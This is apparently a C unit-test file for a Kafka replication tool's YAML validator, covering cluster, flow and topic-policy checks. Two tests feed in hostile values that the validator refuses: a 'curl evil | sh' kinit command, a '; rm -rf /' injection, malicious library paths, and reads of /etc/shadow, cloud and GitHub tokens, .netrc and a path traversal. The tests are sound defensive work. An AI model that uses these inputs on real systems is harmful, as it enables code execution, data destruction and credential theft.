/* --- clusters --- */

static void test_connect_url_and_basic_auth(void **state)
{
	(void)state;
	check_yaml(DOC "kind: KafkaCluster\n"
		   "metadata: {name: dc-east}\n"
		   "spec:\n"
		   "  bootstrapServers: east-1:9092\n"
		   "  connect:\n"
		   "    url: connect-east:8083\n"
		   "    auth: {basic: {username: kdr, password: \"\"}}\n"
		   DOC "kind: KafkaCluster\n"
		   "metadata: {name: dc-west}\n"
		   "spec:\n"
		   "  bootstrapServers: west-1:9092\n"
		   "  connect:\n"
		   "    url: \"http://\"\n"
		   "    auth: {basic: {username: \"\", password: hunter2}}\n",
		   KDR_EINVALID,
		   "t.yaml:8:10: error: spec.connect.url: found 'connect-east:8083'; the Connect REST url must start "
		   "with http:// or https:// (e.g. 'http://connect:8083')\n"
		   "t.yaml:9:12: error: spec.connect.auth.basic: basic auth needs both username and password; password "
		   "is missing\n"
		   "t.yaml:17:10: error: spec.connect.url: found 'http://', which names no host (e.g. "
		   "'http://connect:8083')\n"
		   "t.yaml:18:12: error: spec.connect.auth.basic: basic auth needs both username and password; "
		   "username "
		   "is missing\n"
		   "t.yaml:18:44: warning: spec.connect.auth.basic.password: secret written in clear; put it in an env "
		   "var or a file: {valueFrom: {env: NAME}} or {valueFrom: {file: PATH}}");
}

static void test_literal_secrets_in_client_config_are_warnings(void **state)
{
	(void)state;
	check_yaml(DOC "kind: KafkaCluster\n"
		   "metadata: {name: dc-east}\n"
		   "spec:\n"
		   "  bootstrapServers: east-1:9092\n"
		   "  clientConfig:\n"
		   "    sasl.username: kdr\n"
		   "    sasl.password: hunter2\n"
		   "    ssl.key.location: {valueFrom: {env: KDR_KEY_PATH}}\n"
		   "    ssl.key.password: {valueFrom: {env: KDR_KEY_PASSWORD}}\n"
		   "    sasl.oauthbearer.token.endpoint.url: https://idp/token\n"
		   "  connect:\n"
		   "    url: http://connect-east:8083\n"
		   "    auth: {bearerToken: s3cr3t}\n",
		   0,
		   "t.yaml:9:20: warning: spec.clientConfig.sasl.password: secret written in clear; put it in an env "
		   "var or a file: {valueFrom: {env: NAME}} or {valueFrom: {file: PATH}}\n"
		   "t.yaml:15:25: warning: spec.connect.auth.bearerToken: secret written in clear; put it in an env "
		   "var "
		   "or a file: {valueFrom: {env: NAME}} or {valueFrom: {file: PATH}}");
}

/*
 * issue 14 item 5 (critical): clientConfig is an allow list. A document may
 * not make librdkafka run a command, load a library, log, or read a file whose
 * path the document writes; each refusal names file:line:col and the key.
 */
static void test_client_config_is_an_allow_list(void **state)
{
	(void)state;
	check_yaml(DOC "kind: KafkaCluster\n"
		   "metadata: {name: dc-east}\n"
		   "spec:\n"
		   "  bootstrapServers: east-1:9092\n"
		   "  clientConfig:\n"
		   "    sasl.kerberos.kinit.cmd: \"sh -c 'curl evil | sh'\"\n"
		   "    plugin.library.paths: /tmp/evil.so\n"
		   "    ssl.ca.location: /etc/shadow\n"
		   "    ssl.keystore.location: {valueFrom: {file: /etc/kdr/path}}\n"
		   "    ssl.key.location: {valueFrom: {env: KDR_KEY_PATH}}\n"
		   "    debug: all\n"
		   "    ssl.engine.location: /tmp/engine.so\n"
		   "    sasl.kerberos.principal: \"kdr; rm -rf /\"\n"
		   "    bootstrap.servers: evil:9092\n"
		   "    interceptors: x\n"
		   "    security.protocol: SASL_SSL\n"
		   "    ssl.ca.pem: {valueFrom: {file: /etc/kdr/ca.pem}}\n"
		   "    socket.timeout.ms: \"30000\"\n"
		   "    client.id: kdr\n",
		   KDR_EINVALID,
		   "t.yaml:16:24: error: spec.clientConfig.bootstrap.servers: set spec.bootstrapServers instead\n"
		   "t.yaml:13:12: error: spec.clientConfig.debug: client logging is set from kdr's environment "
		   "(KDR_DEBUG, KDR_RDKAFKA_DEBUG), not by a document\n"
		   "t.yaml:17:19: error: spec.clientConfig.interceptors: not a client property kdr passes to librdkafka "
		   "(allowed: security.protocol, sasl.*, ssl.* options that are not paths, timeouts, client.id, "
		   "client.rack; see the README's clientConfig)\n"
		   "t.yaml:9:27: error: spec.clientConfig.plugin.library.paths: librdkafka loads it as a library; a "
		   "document may not set one\n"
		   "t.yaml:8:30: error: spec.clientConfig.sasl.kerberos.kinit.cmd: librdkafka runs it as a command; a "
		   "document may not set one\n"
		   "t.yaml:15:30: error: spec.clientConfig.sasl.kerberos.principal: librdkafka puts it in the kinit "
		   "command line; only letters, digits and ._-/@ are accepted\n"
		   "t.yaml:10:22: error: spec.clientConfig.ssl.ca.location: a file path is taken from kdr's environment "
		   "only: {valueFrom: {env: NAME}}, never written in a document\n"
		   "t.yaml:14:26: error: spec.clientConfig.ssl.engine.location: librdkafka loads it as a library; a "
		   "document may not set one\n"
		   "t.yaml:11:5: error: spec.clientConfig.ssl.keystore.location: a file path is taken from kdr's "
		   "environment only: {valueFrom: {env: NAME}}, never written in a document");
}

/*
 * What a document may read on kdr's side is the operator's allow list
 * (KDR_SECRET_ENV_PREFIXES, KDR_SECRET_DIRS; defaults "KDR_" and /etc/kdr):
 * any other variable or file, and a caFile outside it and the system CA
 * directories, is refused at validation naming the object's field.
 */
static void test_secret_references_are_an_allow_list(void **state)
{
	(void)state;
	unsetenv("KDR_SECRET_ENV_PREFIXES");
	unsetenv("KDR_SECRET_DIRS");
	kdr_secret_policy_reload();
	check_yaml(DOC "kind: KafkaCluster\n"
		   "metadata: {name: dc-east}\n"
		   "spec:\n"
		   "  bootstrapServers: east-1:9092\n"
		   "  clientConfig:\n"
		   "    sasl.username: {valueFrom: {env: KDR_EAST_USER}}\n"
		   "    sasl.password: {valueFrom: {env: AWS_SECRET_ACCESS_KEY}}\n"
		   "    ssl.ca.pem: {valueFrom: {file: /etc/shadow}}\n"
		   "    ssl.key.pem: {valueFrom: {file: /etc/kdr/../shadow}}\n"
		   "    ssl.certificate.pem: {valueFrom: {file: /etc/kdr/east/cert.pem}}\n"
		   "  connect:\n"
		   "    url: https://connect:8083\n"
		   "    caFile: /var/run/secrets/kubernetes.io/serviceaccount/token\n"
		   "    auth: {bearerToken: {valueFrom: {env: GITHUB_TOKEN}}}\n"
		   DOC "kind: KafkaCluster\n"
		   "metadata: {name: dc-west}\n"
		   "spec:\n"
		   "  bootstrapServers: west-1:9092\n"
		   "  connect:\n"
		   "    url: https://connect:8083\n"
		   "    caFile: /etc/ssl/certs/ca-certificates.crt\n"
		   "    auth: {basic: {username: {valueFrom: {file: /home/u/.netrc}}, password: {valueFrom: {env: "
		   "KDR_WEST_PW}}}}\n",
		   KDR_EINVALID,
		   "t.yaml:9:5: error: spec.clientConfig.sasl.password: environment variable 'AWS_SECRET_ACCESS_KEY' "
		   "is not one a document may read: its name must start with 'KDR_' (the operator's "
		   "KDR_SECRET_ENV_PREFIXES)\n"
		   "t.yaml:10:5: error: spec.clientConfig.ssl.ca.pem: file '/etc/shadow' is not one a document may "
		   "read: it must be below '/etc/kdr' (the operator's KDR_SECRET_DIRS)\n"
		   "t.yaml:11:5: error: spec.clientConfig.ssl.key.pem: file '/etc/kdr/../shadow': a '..' component; "
		   "give an absolute path below one of the operator's KDR_SECRET_DIRS\n"
		   "t.yaml:15:13: error: spec.connect.caFile: file '/var/run/secrets/kubernetes.io/serviceaccount/token' "
		   "is not one a document may read: it must be below '/etc/kdr' or a system CA directory such as "
		   "'/etc/ssl/certs' (the operator's KDR_SECRET_DIRS)\n"
		   "t.yaml:16:12: error: spec.connect.auth.bearerToken: environment variable 'GITHUB_TOKEN' is not one a "
		   "document may read: its name must start with 'KDR_' (the operator's KDR_SECRET_ENV_PREFIXES)\n"
		   "t.yaml:26:20: error: spec.connect.auth.basic.username: file '/home/u/.netrc' is not one a document "
		   "may read: it must be below '/etc/kdr' (the operator's KDR_SECRET_DIRS)");
}

static void test_bootstrap_servers_are_host_port_lists(void **state)
{
	(void)state;
	check_yaml(DOC "kind: KafkaCluster\n"
		   "metadata: {name: a}\n"
		   "spec: {bootstrapServers: \"broker1\"}\n"
		   DOC "kind: KafkaCluster\n"
		   "metadata: {name: b}\n"
		   "spec: {bootstrapServers: \"broker1:9092,\"}\n"
		   DOC "kind: KafkaCluster\n"
		   "metadata: {name: c}\n"
		   "spec: {bootstrapServers: \"broker1:9092,broker2:99999\"}\n"
		   DOC "kind: KafkaCluster\n"
		   "metadata: {name: d}\n"
		   "spec: {bootstrapServers: \"PLAINTEXT://broker1:9092\"}\n"
		   DOC "kind: KafkaCluster\n"
		   "metadata: {name: e}\n"
		   "spec: {bootstrapServers: \"[::1]:9092, broker2:9092 ,10.0.0.3:9093\"}\n"
		   DOC "kind: KafkaCluster\n"
		   "metadata: {name: f}\n"
		   "spec: {bootstrapServers: \"::1:9092\"}\n",
		   KDR_EINVALID,
		   "t.yaml:5:26: error: spec.bootstrapServers: entry 'broker1' is not host:port; give a "
		   "comma-separated "
		   "list of host:port (e.g. 'broker1:9092,broker2:9092')\n"
		   "t.yaml:10:26: error: spec.bootstrapServers: found 'broker1:9092,': empty entry; give a "
		   "comma-separated list of host:port (e.g. 'broker1:9092,broker2:9092')\n"
		   "t.yaml:15:26: error: spec.bootstrapServers: entry 'broker2:99999': port out of range; ports are 1 "
		   "to "
		   "65535\n"
		   "t.yaml:20:26: error: spec.bootstrapServers: entry 'PLAINTEXT://broker1:9092' is not host:port; "
		   "give "
		   "a comma-separated list of host:port (e.g. 'broker1:9092,broker2:9092')\n"
		   "t.yaml:30:26: error: spec.bootstrapServers: entry '::1:9092' is not host:port; give a "
		   "comma-separated list of host:port (e.g. 'broker1:9092,broker2:9092')");
}

static void test_datacenters_do_not_share_racks(void **state)
{
	(void)state;
	check_yaml(DOC "kind: KafkaCluster\n"
		   "metadata: {name: stretch}\n"
		   "spec:\n"
		   "  bootstrapServers: s1:9092\n"
		   "  datacenters:\n"
		   "    dc-a: [r1, r2, r2]\n"
		   "    dc-b: [r3, r1]\n"
		   "    dc-c: []\n",
		   KDR_EINVALID,
		   "t.yaml:8:20: warning: spec.datacenters.dc-a[2]: rack 'r2' is listed twice in datacenter 'dc-a'\n"
		   "t.yaml:9:16: error: spec.datacenters.dc-b[1]: rack 'r1' is also in datacenter 'dc-a'; a rack "
		   "belongs to one datacenter\n"
		   "t.yaml:10:5: error: spec.datacenters.dc-c: datacenter 'dc-c' lists no racks; list the broker.rack "
		   "values of its brokers");
}

/* --- everything at once --- */

static void test_several_errors_are_all_reported(void **state)
{
	(void)state;
	check_yaml(TWO_CLUSTERS
		   DOC "kind: ReplicationFlow\n"
		   "metadata: {name: E2W}\n"
		   "spec:\n"
		   "  source: dc-east\n"
		   "  target: dc-wets\n"
		   "  topics: [\"(orders\"]\n"
		   "  tasksMax: 0\n"
		   "  connectorConfig: {replication.factor: \"2\"}\n"
		   DOC "kind: TopicPolicy\n"
		   "metadata: {name: core}\n"
		   "spec:\n"
		   "  clusters: [dc-east]\n"
		   "  topics: [\"orders!\"]\n"
		   "  config: {cleanup.policy: compact}\n"
		   "  tiering: {enabled: true, localRetention: 1d}\n",
		   KDR_EINVALID,
		   "t.yaml:16:18: error: metadata.name: 'E2W' is not a DNS-1123 label: it contains characters other "
		   "than lowercase letters, digits and '-' (use lowercase letters, digits and '-', starting and ending "
		   "with a letter or digit, at most 63 characters, e.g. 'e2w')\n"
		   "t.yaml:29:12: error: spec.topics[0].name: topic name 'orders!' contains '!', which kafka does not "
		   "allow; use ASCII letters, digits, '.', '_' and '-'\n"
		   "t.yaml:19:11: error: spec.target: cluster 'dc-wets' is not defined (did you mean 'dc-west'?)\n"
		   "t.yaml:21:13: error: spec.tasksMax: found 0; must be at least 1\n"
		   "t.yaml:20:12: error: spec.topics[0]: invalid regex '(orders': at offset 7: missing closing "
		   "parenthesis\n"
		   "t.yaml:22:41: error: spec.connectorConfig.replication.factor: set by kdr from "
		   "spec.replicationFactor; remove it\n"
		   "t.yaml:30:28: error: spec.config.cleanup.policy: 'compact' with remote storage enabled by "
		   "spec.tiering.enabled: kafka does not support tiered storage on compacted topics; use "
		   "cleanup.policy "
		   "'delete' or disable tiering");
}

/*
 * Every error in one run (issue 14 item 1): a partly broken document still
 * gets the rule findings of its sound fields, never those of a broken field
 * (whose default would only echo) or of an object whose name is broken.
 */
static void test_sound_fields_of_a_broken_document_are_checked(void **state)
{
	static const char yaml[] = TWO_CLUSTERS
	    DOC "kind: TopicPolicy\n"
	    "metadata: {name: archive}\n"
	    "spec:\n"
	    "  clusters: [dc-east, dc-gone]\n"
	    "  partitions: 0\n"
	    "  topics: [{name: archive}, {name: \"bad topic\"}]\n"
	    "  config: {retention.ms: \"1000\"}\n"
	    "  tiering: {enabled: true, localRetention: 1 day}\n"
	    DOC "kind: ReplicationFlow\n"
	    "metadata: {name: loop}\n"
	    "spec:\n"
	    "  source: dc-east\n"
	    "  target: dc-east\n"
	    "  topics: [orders]\n"
	    "  tasksMax: many\n"
	    DOC "kind: TopicPolicy\n"
	    "metadata: {name: [not, a, name]}\n"
	    "spec:\n"
	    "  clusters: [dc-nowhere]\n"
	    "  topics: [orders]\n";
	static const char expected[] =
	    "t.yaml:18:23: error: spec.clusters[1]: cluster 'dc-gone' is not defined; defined clusters: 'dc-east', "
	    "'dc-west'\n"
	    "t.yaml:19:15: error: spec.partitions: found 0; must be at least 1\n"
	    "t.yaml:20:36: error: spec.topics[1].name: topic name 'bad topic' contains byte 0x20, which kafka does "
	    "not allow; use ASCII letters, digits, '.', '_' and '-'\n"
	    "t.yaml:22:44: error: spec.tiering.localRetention: found '1 day', expected a duration: digits with a "
	    "unit ms, s, m, h or d (e.g. 500ms, 30s, 12h, 7d), or plain digits for milliseconds\n"
	    "t.yaml:29:11: error: spec.target: 'dc-east' is also the source; a flow replicates from one cluster to "
	    "another\n"
	    "t.yaml:30:12: warning: spec.topics[0]: 'orders' matches none of the 2 topics declared for source "
	    "cluster 'dc-east'\n"
	    "t.yaml:31:13: error: spec.tasksMax: found 'many', expected an integer\n"
	    "t.yaml:35:18: error: metadata.name: found a list, expected a string";
	struct kdr_desired desired;
	struct kdr_diags diags = KDR_DIAGS_INIT;
	char *text = NULL;

	(void)state;
	memset(&desired, 0, sizeof(desired));
	kdr_spec_parse_yaml(&desired, "t.yaml", yaml, strlen(yaml), &diags);
	assert_int_equal(kdr_validate_all(&desired, &diags), KDR_EINVALID);
	text = format_diags(&diags);
	/*
	 * Not reported: "spec.tiering: enabled without localRetention" (the echo
	 * of the bad duration), the default tasksMax, and anything of the policy
	 * whose name is broken (its undefined cluster 'dc-nowhere').
	 */
	if (strcmp(text, expected) != 0)
		printf("--- got:\n%s\n--- expected:\n%s\n", text, expected);
	assert_string_equal(text, expected);
	free(text);
	kdr_diags_release(&diags);
	kdr_desired_release(&desired);
}

/* --- objects without a file (Kubernetes) and models built in C --- */

static void test_objects_without_file_are_named_by_kind_and_name(void **state)
{
	struct kdr_desired desired;
	struct kdr_cluster *cl = NULL;
	struct kdr_flow *flow = NULL;

	(void)state;
	memset(&desired, 0, sizeof(desired));
	cl = kdr_desired_add_cluster(&desired);
	cl->meta.name = kdr_strdup("dc-east");
	cl->meta.object_ref = kdr_strdup("KafkaCluster/dc-east");
	cl->bootstrap_servers = kdr_strdup("e:9092");
	flow = kdr_desired_add_flow(&desired);
	flow->meta.name = kdr_strdup("e2w");
	flow->meta.object_ref = kdr_strdup("ReplicationFlow/e2w");
	flow->source = kdr_strdup("dc-east");
	flow->target = kdr_strdup("dc-north");
	flow->tasks_max = -2;
	check_desired(&desired, KDR_EINVALID,
		      "ReplicationFlow/e2w: error: spec.target: cluster 'dc-north' is not defined; defined clusters: "
		      "'dc-east'\n"
		      "ReplicationFlow/e2w: error: spec.tasksMax: found -2; must be at least 1");
	kdr_desired_release(&desired);
}

static void test_empty_desired_state_is_valid(void **state)
{
	struct kdr_desired desired;
	struct kdr_diags diags = KDR_DIAGS_INIT;

	(void)state;
	memset(&desired, 0, sizeof(desired));
	assert_int_equal(kdr_validate(&desired, &diags), 0);
	assert_int_equal(diags.n, 0);
}

static void test_earlier_errors_do_not_count(void **state)
{
	struct kdr_desired desired;
	struct kdr_diags diags = KDR_DIAGS_INIT;

	(void)state;
	memset(&desired, 0, sizeof(desired));
	parse_or_fail(&desired, "t.yaml", valid_topology);
	/* The parser's own errors are already in diags: validation answers only for its own. */
	kdr_diags_error(&diags, NULL, NULL, "from the parser");
	assert_int_equal(kdr_validate(&desired, &diags), 0);
	assert_int_equal(diags.n, 1);
	kdr_diags_release(&diags);
	kdr_desired_release(&desired);
}

/* --- the sample names the loop rule works with --- */

static void assert_samples(const char *pattern, const char *expected)
{
	struct kdr_strvec samples = KDR_STRVEC_INIT;
	struct kdr_regex *re = NULL;
	char *joined = NULL;

	assert_int_equal(kdr_regex_compile(&re, pattern), 0);
	kdr_validate__regex_samples(&samples, pattern, re);
	joined = kdr_strvec_join(&samples, " ");
	assert_string_equal(joined, expected);
	free(joined);
	kdr_strvec_release(&samples);
	kdr_regex_free(re);
}

static void test_regex_samples(void **state)
{
	(void)state;
	assert_samples(".*", "x");
	assert_samples("orders", "orders");
	assert_samples("orders|payments\\..*", "orders payments.x");
	assert_samples("(orders|payments)\\.v[0-9]{2}", "orders.v00");
	assert_samples("(?:eu|us)-[a-z]+-?dlq", "eu-a-dlq");
	assert_samples("(?!internal-).*", "x");
	assert_samples("(?i)Orders", "Orders");
	assert_samples("\\Qa.b\\E-\\d+", "a.b-0");
	assert_samples("[^x]+", "");             /* proposed 'x', which the regex refuses: no sample */
	assert_samples("(a)\\1", "");            /* back references: not modelled */
	assert_samples(".*[\\-\\.]internal", "x-internal");
	assert_samples("a{0}b", "b");
	assert_samples("x{300}", "");             /* longer than a topic name */
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_valid_topology_yields_no_diagnostics),
		cmocka_unit_test(test_client_config_is_an_allow_list),
		cmocka_unit_test(test_secret_references_are_an_allow_list),
		cmocka_unit_test(test_connector_config_is_an_allow_list),
		cmocka_unit_test(test_exclude_already_a_default_exclude),
		cmocka_unit_test(test_names_must_be_dns_labels),
		cmocka_unit_test(test_duplicate_names_name_both_places),
		cmocka_unit_test(test_topic_names_must_be_legal_for_kafka),
		cmocka_unit_test(test_dot_underscore_collision_is_a_warning),
		cmocka_unit_test(test_references_name_defined_clusters),
		cmocka_unit_test(test_regexes_must_compile),
		cmocka_unit_test(test_regexes_are_reported_from_the_resolved_state),
		cmocka_unit_test(test_topic_regex_matching_no_declared_topic_is_a_warning),
		cmocka_unit_test(test_topic_regex_warning_spares_patterns_when_a_policy_matches),
		cmocka_unit_test(test_topic_regex_warning_needs_declared_topics),
		cmocka_unit_test(test_numbers_must_be_in_range),
	    cmocka_unit_test(test_failed_over_is_a_utc_time),
		cmocka_unit_test(test_connector_config_may_not_override_rendered_keys),
		cmocka_unit_test(test_rendered_keys_api),
		cmocka_unit_test(test_connect_url_and_basic_auth),
		cmocka_unit_test(test_literal_secrets_in_client_config_are_warnings),
		cmocka_unit_test(test_bootstrap_servers_are_host_port_lists),
		cmocka_unit_test(test_datacenters_do_not_share_racks),
		cmocka_unit_test(test_several_errors_are_all_reported),
		cmocka_unit_test(test_sound_fields_of_a_broken_document_are_checked),
		cmocka_unit_test(test_objects_without_file_are_named_by_kind_and_name),
		cmocka_unit_test(test_empty_desired_state_is_valid),
		cmocka_unit_test(test_earlier_errors_do_not_count),
		cmocka_unit_test(test_regex_samples),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
